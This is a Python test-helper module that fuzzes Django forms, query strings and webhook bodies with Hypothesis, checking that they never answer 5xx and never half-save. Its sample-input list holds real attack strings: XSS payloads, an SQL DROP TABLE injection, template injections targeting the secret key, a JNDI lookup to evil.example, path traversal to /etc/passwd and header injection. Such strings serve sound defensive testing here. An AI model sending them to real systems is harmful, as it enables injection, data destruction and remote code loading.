"""Fuzz a form: post hypothesis-generated input and require a clean answer, never a 5xx,
and nothing half-saved when the form refuses the input.

Use it in any app's tests:

    from tests.security.fuzz import fuzz_form, hostile_text, hostile_email

    @pytest.mark.django_db
    def test_enquiry_form_survives_hostile_input(client):
        result = fuzz_form(
            client,
            "/cars/42/enquire/",
            {"name": hostile_text(), "email": hostile_email(), "message": hostile_text()},
            models=[Lead, Customer, OutboxMessage],
        )
        assert result.examples == 200

A response counts as accepted when `accepted(response)` says so (default: a redirect); for
every other response the row counts of `models`, the outbox of sent mail and `snapshot()`
(any extra state you name) must be exactly as before the request. Input mixes ordinary
text with NUL bytes, control and right-to-left characters, markup, SQL and template
injection, very long strings, repeated keys (lists) and missing fields.

Also here: `fuzz_query` (a GET's query string: never a 5xx, changes nothing), `fuzz_body` (a
webhook's raw body and headers), `mostly(*valid)` (valid values four times in five, so the
accepted path is fuzzed too) and `added=` / `always=` on `fuzz_form` (check the rows an
accepted post created; fields never left out). All run derandomized, without an example
database and without a deadline, so CI is deterministic.
"""

from collections.abc import Callable, Iterable
from dataclasses import dataclass, field

from django.core import mail
from django.db import models as django_models
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

NASTY = [
    "",
    " ",
    "\x00",
    "a\x00b",
    "\r\n\r\nX-Injected: 1",
    "\u202eevil\u202c",
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "'; DROP TABLE accounts_user; --",
    "{{ settings.SECRET_KEY }}",
    "{% debug %}",
    "${jndi:ldap://evil.example/a}",
    "../../../../etc/passwd",
    "%00",
    "%s%s%s%n",
    "💥" * 50,
    "ß" * 300,
    "9" * 400,
    "-1",
    "1e309",
    "NaN",
    "x" * 10_000,
]


def hostile_text(max_size: int = 300) -> st.SearchStrategy[str]:
    return st.one_of(
        st.sampled_from(NASTY),
        st.text(max_size=max_size),
        st.text(alphabet=st.characters(codec="utf-8"), max_size=max_size),
    )


def hostile_email() -> st.SearchStrategy[str]:
    return st.one_of(
        st.emails().map(str),
        hostile_text(),
        st.sampled_from(["a@b", "@example.com", "a@@example.com", "a@example.com\x00"]),
    )


def field_values(strategy: st.SearchStrategy[str]) -> st.SearchStrategy:
    """A value as a browser (or an attacker) may send it: one, several, or none at all."""
    return st.one_of(strategy, st.lists(strategy, min_size=2, max_size=3))


@dataclass
class FuzzResult:
    examples: int = 0
    accepted: int = 0
    statuses: dict[int, int] = field(default_factory=dict)


def _redirect(response) -> bool:
    return response.status_code in (301, 302, 303)


def fuzz_settings(max_examples: int):
    """Deterministic in CI: derandomized, no example database, no deadline."""
    return settings(
        max_examples=max_examples,
        deadline=None,
        database=None,
        derandomize=True,
        suppress_health_check=list(HealthCheck),
    )


def _data(fields: dict[str, st.SearchStrategy], always: Iterable[str]) -> st.SearchStrategy:
    always = set(always)
    return st.fixed_dictionaries(
        {name: field_values(s) for name, s in fields.items() if name in always},
        optional={name: field_values(s) for name, s in fields.items() if name not in always},
    )


def mostly(*valid: str, hostile: st.SearchStrategy | None = None) -> st.SearchStrategy[str]:
    """One of `valid` four times in five, else hostile text: enough valid mixes reach the
    service to fuzz its checks too, not only the form's."""
    hostile = hostile if hostile is not None else hostile_text()
    return st.integers(min_value=0, max_value=4).flatmap(
        lambda n: st.sampled_from(valid) if n < 4 else hostile
    )


class _Watch:
    """Counts requests and checks each answer: never a 5xx; refused means nothing changed;
    accepted means `added` (when given) approves the rows the request created."""

    def __init__(self, models, snapshot, accepted, added):
        self.models = list(models)
        self.snapshot = snapshot
        self.accepted = accepted
        self.added = added
        self.result = FuzzResult()

    def counts(self) -> dict:
        return {model: model._default_manager.count() for model in self.models}

    def state(self):
        return (self.counts(), len(mail.outbox), self.snapshot())

    def request(self, send, description: str):
        before = self.state()
        response = send()
        result = self.result
        result.examples += 1
        result.statuses[response.status_code] = result.statuses.get(response.status_code, 0) + 1
        assert response.status_code < 500, f"answered {response.status_code} to {description}"
        if self.accepted(response):
            result.accepted += 1
            if self.added is not None:
                after = self.counts()
                self.added(response, {m: after[m] - before[0][m] for m in self.models})
        else:
            assert self.state() == before, f"refused {description} but changed something"
        return response


def fuzz_form(
    client,
    url: str,
    fields: dict[str, st.SearchStrategy],
    *,
    models: Iterable[type[django_models.Model]] = (),
    accepted: Callable[[object], bool] = _redirect,
    snapshot: Callable[[], object] = lambda: None,
    max_examples: int = 200,
    headers: dict[str, str] | None = None,
    added: Callable[[object, dict], None] | None = None,
    always: Iterable[str] = (),
) -> FuzzResult:
    """POST generated input to `url` `max_examples` times; fail on a 5xx or a half-save.

    Every field may also be missing or repeated. Call it inside a pytest-django db test; the
    client carries whatever login the form needs. `added(response, {model: rows added})`, when
    given, is called for every accepted post to check that it saved a complete set; the fields
    named in `always` are never left out (so valid mixes get through to the service). Returns how
    many examples ran and how the form answered, for the test to assert on.
    """
    watch = _Watch(models, snapshot, accepted, added)
    data_strategy = _data(fields, always)

    @fuzz_settings(max_examples)
    @given(data=data_strategy)
    def run(data):
        watch.request(lambda: client.post(url, data, headers=headers or {}), f"{url} {data!r}")

    run()
    return watch.result


def fuzz_query(
    client,
    url: str,
    fields: dict[str, st.SearchStrategy],
    *,
    max_examples: int = 200,
    models: Iterable[type[django_models.Model]] = (),
    snapshot: Callable[[], object] = lambda: None,
) -> FuzzResult:
    """GET `url` with a generated query string `max_examples` times: never a 5xx, and a GET
    changes nothing (`models`' row counts, the mail outbox, `snapshot()`)."""
    watch = _Watch(models, snapshot, lambda response: False, None)
    data_strategy = _data(fields, ())

    @fuzz_settings(max_examples)
    @given(data=data_strategy)
    def run(data):
        watch.request(lambda: client.get(url, data), f"GET {url} {data!r}")

    run()
    return watch.result


def fuzz_body(
    client,
    url: str,
    bodies: st.SearchStrategy,
    *,
    models: Iterable[type[django_models.Model]] = (),
    accepted: Callable[[object], bool] = lambda response: response.status_code in (200, 201),
    snapshot: Callable[[], object] = lambda: None,
    max_examples: int = 200,
    content_type: str = "application/json",
    added: Callable[[object, dict], None] | None = None,
) -> FuzzResult:
    """POST a generated raw body (a webhook's) to `url`. `bodies` yields (body bytes, headers
    dict); the same rules as `fuzz_form`."""
    watch = _Watch(models, snapshot, accepted, added)

    @fuzz_settings(max_examples)
    @given(case=bodies)
    def run(case):
        body, headers = case
        watch.request(
            lambda: client.generic("POST", url, body, content_type=content_type, headers=headers),
            f"{url} {body[:300]!r} {headers!r}",
        )

    run()
    return watch.result
